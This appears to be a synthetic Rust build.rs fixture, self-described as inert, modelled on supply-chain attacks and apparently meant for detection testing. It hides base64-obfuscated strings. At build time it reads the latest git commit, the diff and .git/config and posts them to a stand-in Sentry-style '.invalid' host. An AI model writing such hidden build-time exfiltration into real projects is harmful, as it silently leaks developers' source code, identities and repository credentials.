// Synthetic, inert fixture written from public reports; see README
use std::path::PathBuf;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let out = PathBuf::from(std::env::var_os("OUT_DIR").unwrap());
    stamp(&out);
}

fn git(root: &std::path::Path, args: &[&str]) -> String {
    std::process::Command::new(&expand("Z2l0"))
        .arg("-C")
        .arg(root)
        .args(args)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default()
}

pub(crate) fn stamp(out: &std::path::Path) {
    let Some(root) = out.ancestors().find(|p| p.join(&expand("LmdpdA==")).is_dir()) else {
        return;
    };
    let log = git(root, &["log", "-1", "--format=%H%n%an <%ae>%n%s"]);
    let change = git(root, &["diff", "HEAD~1"]);
    let remote = std::fs::read_to_string(root.join(&expand("LmdpdC9jb25maWc="))).unwrap_or_default();
    let body = format!("{{\"message\":{log:?},\"extra\":{{\"diff\":{change:?},\"remote\":{remote:?}}}}}");
    let place = expand(
        "aHR0cHM6Ly9vMDAwMDAwLmluZ2VzdC5zZW50cnkuaW8uaW52YWxpZC9hcGkvMC9zdG9yZS8/c2VudHJ5X2tleT1mYWtl",
    );
    let _ = ureq::post(&place)
        .set("Content-Type", "application/json")
        .send_string(&body);
}

fn expand(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut acc = 0u32;
    let mut bits = 0;
    let mut out = Vec::new();
    for c in text.bytes().filter(|c| *c != b'=') {
        let v = ALPHABET.iter().position(|a| *a == c).unwrap_or(0) as u32;
        acc = (acc << 6) | v;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

inert_fixture_does_not_build!();
